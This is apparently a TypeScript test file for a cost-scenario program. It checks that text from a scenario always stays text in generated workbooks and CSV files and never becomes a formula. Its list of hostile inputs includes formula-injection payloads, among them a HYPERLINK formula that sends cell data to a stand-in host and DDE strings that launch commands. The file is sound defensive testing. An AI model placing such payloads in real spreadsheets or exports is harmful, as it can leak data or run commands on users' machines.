import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { compare, openScenario, sweep } from '../../src/index.ts';
import { openText } from '../../src/scenario/load.ts';
import type { ScenarioSource } from '../../src/scenario/source.ts';
import { blocksOf } from '../../src/report/sweep-rows.ts';
import type { Book, ReadBook } from '../../src/spreadsheet/book.ts';
import { readBook } from '../../src/spreadsheet/read.ts';
import { writeBook } from '../../src/spreadsheet/write.ts';
import { makeCompareBook } from '../../src/workbook/compare-book.ts';
import { makeSweepBook } from '../../src/workbook/sweep-book.ts';
import { bookOf } from './book-of.ts';
import { runCli } from '../cli/run-cli.ts';
import { convert, hasLibreOffice } from './libreoffice.ts';

/** No text of a scenario can act as a formula, whatever it begins with. */

const folder = mkdtempSync(join(tmpdir(), 'interv-cost-hostile-'));
afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
});

const HOSTILE = [
  '=1+41',
  '+1+41',
  '-1+43',
  '@SUM(42)',
  '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
  "=cmd|'/c calc'!A0",
  '=DDE("soffice","x","y")',
  '"=1+41',
  "'=1+41",
  '"&CHAR(42)&"',
  '[Budget]/2027:*?',
] as const;

/** A programme and a scenario of which every text is hostile. */
function hostileSource(text: string): ScenarioSource {
  const programme = {
    id: 'mine',
    name: text,
    price_year: 2017,
    overhead_included: '20%',
    inputs: { people: { kind: 'count', by_year: true, unit: text, label: text } },
    participants: 'people',
    lines: [{ id: 'work', label: text, phase: 'operating', quantity: 'people', unit: text, unit_cost: '1000', wage_share: { value: 0, because: text }, origin: 'assumed' }],
  };
  const file = join(folder, 'mine.yaml');
  writeFileSync(file, JSON.stringify(programme));
  const raw = {
    name: text,
    description: text,
    years: 2,
    funding: [{ name: text, amount: 100 }],
    catalogue: ['mine.yaml'],
    interventions: { mine: { people: 3 } },
  };
  return openText({ text: JSON.stringify(raw), file: join(folder, 'scenario.yaml'), folder, set: [] });
}

/** Every workbook that is made of a scenario. */
function booksOf(source: ScenarioSource): readonly Book[] {
  const words = { foot: '', fingerprint: '', language: 'da' } as const;
  const comparison = compare([source, openScenario('scenarios/parent-courses.yaml')]);
  const swept = sweep(source, { vary: ['mine.people=1..3:1'] });
  return [
    bookOf(source, 'da'),
    makeCompareBook(comparison, { ...words, title: source.read().name, remarks: [source.read().name], termsOf: () => [source.read().name] }),
    makeSweepBook(swept, blocksOf(swept), { ...words, title: source.read().name, terms: [source.read().name] }),
  ];
}

/** Everything that stands in the cells of a workbook. */
function textsOf(book: ReadBook): readonly string[] {
  return book.sheets.flatMap((sheet) =>
    Array.from({ length: sheet.rows }, (_, row) => Array.from({ length: 30 }, (__, column) => sheet.cell({ row, column }))).flat(),
  ).filter((content) => typeof content === 'string');
}

describe.each(HOSTILE)('the text %j', (text) => {
  it('is in no formula of any workbook, and in its cells as it is', async () => {
    for (const book of booksOf(hostileSource(text))) {
      const formulas = book.sheets.flatMap((sheet) => sheet.rows.flatMap((row) => row.flatMap((cell) => cell?.formula ?? [])));
      expect(formulas.filter((formula) => formula.includes(text))).toEqual([]);
      const read = await readBook(await writeBook(book));
      expect(textsOf(read)).toContain(text);
      for (const { name } of read.sheets) expect(name).not.toMatch(/[[\]:*?/\\]/u);
    }
  });
});

describe.skipIf(!hasLibreOffice)('in LibreOffice', () => {
  it('hostile texts are texts, in workbooks and in both dialects of CSV', { timeout: 300_000 }, async () => {
    const files: string[] = [];
    const texts: string[] = [];
    for (const [index, text] of HOSTILE.entries()) {
      for (const [position, book] of booksOf(hostileSource(text)).entries()) {
        const file = join(folder, `hostile-${String(index)}-${String(position)}.xlsx`);
        writeFileSync(file, await writeBook(book));
        files.push(file);
        texts.push(text);
      }
    }
    const saved = await convert(files, 'xlsx', folder);
    for (const [index, file] of saved.entries()) {
      const found = textsOf(await readBook(readFileSync(file)));
      expect(found).toContain(texts[index]);
      expect(found.filter((each) => each === '42' || each === 'click')).toEqual([]);
    }
  });

  it.each(['rfc4180', 'danish-excel'])('names that look like formulas stay text in %s', async (dialect) => {
    const scenarios = HOSTILE.map((text, index) => {
      const file = join(folder, `named-${String(index)}.yaml`);
      writeFileSync(file, JSON.stringify({ name: text, interventions: { parent_courses: { courses: 1 } } }));
      return file;
    });
    const csv = join(folder, `${dialect}.csv`);
    const { code } = await runCli(['compare', ...scenarios, '--layout', 'rows', '-o', csv, '--csv-dialect', dialect]);
    expect(code).toBe(0);
    const separator = dialect === 'danish-excel' ? '59' : '44';
    const [saved = ''] = await convert([csv], 'xlsx', folder, { filter: `Text - txt - csv (StarCalc):${separator},34,76,1,,1033,false,true` });
    const [sheet] = (await readBook(readFileSync(saved))).sheets;
    // What begins like a formula has an apostrophe before it, as in the other CSV files of the program.
    const shown = HOSTILE.map((text) => (/^[=+\-@]/u.test(text) ? `'${text}` : text));
    expect(HOSTILE.map((_, index) => sheet?.cell({ row: 1 + index, column: 1 }))).toEqual(shown);
  });
});
